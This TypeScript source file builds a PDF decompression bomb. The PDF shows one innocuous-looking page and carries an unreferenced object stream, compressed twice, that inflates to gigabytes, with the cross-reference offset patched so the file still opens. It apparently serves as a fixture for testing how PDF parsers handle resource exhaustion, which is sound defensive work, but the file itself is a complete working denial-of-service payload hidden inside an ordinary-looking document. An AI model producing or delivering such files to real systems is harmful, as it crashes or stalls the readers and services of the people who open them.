import { constants, deflateSync } from 'node:zlib';
import { makePdf } from './pdf.ts';

const MEGABYTE = Buffer.alloc(1024 * 1024, ' ');

/**
 * A small PDF of one page with a text, beside which stands a stream of objects that nothing refers to and that inflates, twice, to
 * gigabytes. Who opens the page never looks at it.
 */
export function objectStreamBomb(megabytes = 3000): Buffer {
  const once = deflateSync(MEGABYTE, { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const head = once.subarray(0, 2);
  // Blocks of deflate that end on a byte may be written one after the other.
  const inflated = Buffer.concat([
    head,
    ...Array.from({ length: megabytes }, () => once.subarray(2)),
    Buffer.from([3, 0]),
  ]);
  const packed = deflateSync(inflated, { level: 9 });
  const page = makePdf([{ text: 'A page like others.' }]).toString('latin1');
  const at = page.lastIndexOf('xref\n0 ');
  const [objects, rest] = [page.slice(0, at), page.slice(at)];
  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${packed.length} >>`;
  const bomb = Buffer.concat([
    Buffer.from(`900 0 obj\n${dictionary}\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
  const start = Buffer.byteLength(objects, 'latin1') + bomb.length;
  return Buffer.concat([
    Buffer.from(objects, 'latin1'),
    bomb,
    Buffer.from(rest.replace(/startxref\n\d+/, `startxref\n${start}`), 'latin1'),
  ]);
}
